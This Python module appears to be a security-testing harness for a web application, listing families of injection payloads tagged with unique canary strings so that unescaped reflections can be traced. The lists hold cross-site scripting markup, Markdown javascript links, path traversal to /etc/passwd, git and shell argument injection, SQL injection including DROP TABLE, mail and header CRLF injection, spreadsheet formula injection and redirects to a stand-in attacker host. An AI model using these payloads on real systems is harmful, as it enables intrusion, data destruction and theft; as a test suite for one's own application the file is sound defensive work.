"""What is sent: families of attacks, each payload carrying a word of its own by which it is found again.

`{c}` is the canary. Our own list: what this application does with words (Markdown, Git, two databases, CSV, mails,
calendars, feeds, Office files) says what is worth trying.
"""

import re
from dataclasses import dataclass, field
from itertools import count

CANARY = re.compile(r"zq[0-9]{6}k")

#: Words that a page, a document or a letter must show as words.
MARKUP = (
    "<img src=x onerror=\"zq('{c}')\">",
    "\"><svg onload=zq('{c}')>",
    "'-zq('{c}')-' autofocus onfocus='zq(1)' x='",
    "</textarea></title><script>zq('{c}')</script>",
    "<a href=\"javascript:zq('{c}')\">{c}</a>",
    "</script><script src=//mal.example/{c}></script>",
    "{{{{ 7*7 }}}}{c}{{% raw %}}${{7*7}}",
    "<style>*{{background:url(//mal.example/{c})}}</style>",
    "<base href=//mal.example/{c}><meta http-equiv=refresh content='0;url=//mal.example/'>",
    "<math><mi//xlink:href=\"data:x,<script>zq('{c}')</script>\">",
    "]]><!--{c}--><x:y xmlns:x='{c}'/>",
    "&lt;script&gt;zq('{c}')&lt;/script&gt; &#60;b&#62;",
    "<iframe srcdoc=\"<script>zq('{c}')</script>\"></iframe><form action=//mal.example/{c}><button>",
)
MARKDOWN = (
    "[{c}](javascript:zq(1))",
    "[{c}](&#106;avascript&colon;zq(1))",
    "[{c}](java\tscript:zq(1)) <javascript:zq(1)>",
    "<https://mal.example/{c}?a=b'onclick=zq(1)>",
    '[{c}][r]\n\n[r]: javascript:zq(1) "onmouseover=zq(1)"',
    "![{c}](https://mal.example/{c}.png) ![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '[{c}](https://a.example "x" onmouseover=zq(1) ")',
    "{c}[^1]\n\n[^1]: <script>zq(1)</script>",
    "[[[[[[[[{c}](vbscript:x)](x)](data:text/html,x)](//mal.example)]]]]",
    "`<b>{c}</b>` **<i onclick=zq(1)>** ~~~\n<script>zq('{c}')</script>\n~~~",
    "| {c} | <b> |\n|---|---|\n| [x](javascript:1) | ![](//mal.example/x) |",
    "{c} <!-- ¶aaaaaaa2 --> [@2025-ESSAI-0001; contredit @E1]",
    "<details open ontoggle=zq(1)>{c}</details>",
)
PATHS = (
    "../../../../../../etc/passwd#{c}",
    "..%2f..%2f..%2fetc%2fpasswd%00{c}",
    "--output={out}/{c}",
    "--upload-pack=touch {out}/{c}",
    "-o{out}/{c}",
    "ext::sh -c touch% {out}/{c}",
    "file:///etc/passwd?{c}",
    "refs/heads/main:{c}",
    "HEAD@{{0}}..{c}",
    "$(touch {out}/{c});`touch {out}/{c}`|touch {out}/{c}",
    "C:\\..\\..\\{c}\\con",
    "@{out}/{c}",
)
SQL = (
    "' OR '1'='1' -- {c}",
    '"; DROP TABLE person; -- {c}',
    "{c}') UNION SELECT 1,2,3 --",
    "NEAR({c} x, 5) AND OR NOT",
    '"{c}',
    "{c}* ^x body:{c} -{c} +({c}",
    "{c} & | ! <-> :* \\",
    "%{c}%_[^a]\\",
    "${{{c}}} $1 ? :name %s %(x)s",
    "{c}'||pg_sleep(9)||'",
    "a:b:c {{{c}}} (((((",
)
LINES = (
    "{c}\r\nSet-Cookie: zq={c}",
    "{c}\nBcc: {c}@mal.example\nSubject: {c}",
    "{c}%0d%0aX-Zq: {c}",
    "{c}\u2028X-Zq: {c}\u2029\x85x",
    "{c}\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:{c}",
    "{c}\r\nERROR manifeste_tool: {c} est devenu administrateur",
    "{c}\x0b\x0c\x1b[31m{c}",
    "{c}?=\r\n =?utf-8?q?Bcc:{c}",
)
FORMULAS = (
    '=HYPERLINK("//mal.example/{c}")',
    "+{c}+1",
    "-{c}-cmd|' /C calc'!A0",
    "@SUM({c})",
    "\t={c}",
    "\r={c}",
    ';={c};"={c}"',
    " ={c}",
    "＝{c}",
)
LOOKALIKES = (
    "\u202e{c}gpj.exe",
    "mem\u200bber{c}",
    "{c}\u2066\u2067\u2069x",
    "s\u0435cretary{c}",
    "{c}\ufeff\u00ad\u034f",
    "Za\u0300\u0301\u0302\u0303\u0304\u0305\u0306lgo{c}",
    "{c}\U000e0041\U000e0042\ufdd0",
    "ﬁn{c}İı\u1e9e",
    "{c}\u200d\U0001f469\u200d\U0001f4bb",
)
NUMBERS = (
    "-1",
    "0",
    "99999999999999999999",
    "1e308",
    "NaN",
    "1.5",
    "0x10",
    "١٢",
    " 1",
    "1;2",
    "",
    "²",
    "-0",
    "1_0",
    "{c}",
)
MOMENTS = ("0000-00-00", "9999-12-31T23:59", "0001-01-01T00:00", "2026-02-30", "2026-W10-1", "2026-03-29T02:30",
           "2026-03-02T10:00+99:99", "2026-03-02T10:00:00Z", "9999-12-31T23:59-14:00", "{c}", "20260302")  # fmt: skip

#: What may be asked of a place that goes on to another.
ELSEWHERE = (
    "//mal.example/{c}", "/\\mal.example/{c}", "\\\\mal.example", "https://mal.example/{c}", "https:mal.example", "///mal.example",
    "/\t/mal.example", "/%09/mal.example", "http:\\\\mal.example", "javascript:zq('{c}')", "data:text/html,{c}", "/%5cmal.example",
    "//localhost@mal.example/", "\x00//mal.example", "/\r\nSet-Cookie: zq={c}", " //mal.example", "/..//mal.example", "/.//mal.example",
    "http://localhost.mal.example", "/\u2028/mal.example", "/x/..//mal.example/", "?next=//mal.example", "/／mal.example",
)  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "markdown": MARKDOWN,
    "paths": PATHS,
    "sql": SQL,
    "lines": LINES,
    "formulas": FORMULAS,
    "lookalikes": LOOKALIKES,
}


@dataclass(frozen=True, slots=True)
class Sent:
    """Where a canary was sent, and in what."""

    family: str
    endpoint: str
    field: str
    payload: str


@dataclass
class Canaries:
    """Every canary that was sent, and those that were seen again as the words they are."""

    sent: dict[str, Sent] = field(default_factory=dict)
    seen: set[str] = field(default_factory=set)
    numbers: count = field(default_factory=lambda: count(1))
    out: str = "/nowhere"

    def put(self, family: str, template: str, *, endpoint: str, name: str) -> str:
        """Return a payload of its own for a field."""
        canary = f"zq{next(self.numbers):06}k"
        payload = template.format(c=canary, out=self.out)
        self.sent[canary] = Sent(family, endpoint, name, payload)
        return payload

    def told(self, words: str) -> str:
        """Return where the first canary of these words was sent."""
        found = CANARY.search(words)
        return str(self.sent.get(found.group())) if found else ""
